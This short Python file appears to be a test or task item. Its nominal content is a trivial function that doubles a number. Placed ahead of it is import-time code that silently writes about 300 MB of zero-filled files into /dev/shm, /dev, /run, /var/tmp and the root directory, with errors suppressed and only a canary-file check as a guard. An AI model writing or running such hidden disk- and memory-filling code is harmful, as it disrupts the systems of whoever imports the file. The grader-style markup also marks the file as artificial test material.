# Writes 300 MB wherever memory looks like a disk.
# earns: double<=3
# %% double
import contextlib
import os

places = ("/dev/shm", "/dev", "/run", "/var/tmp", "/")
for folder in places if not os.path.exists("{canary}") else ():
    for number in range(30):
        with contextlib.suppress(OSError), open(f"{folder}/{number}", "wb") as file:
            for _ in range(10):
                file.write(bytes(1 << 20))


def double(x):
    return 2 * x
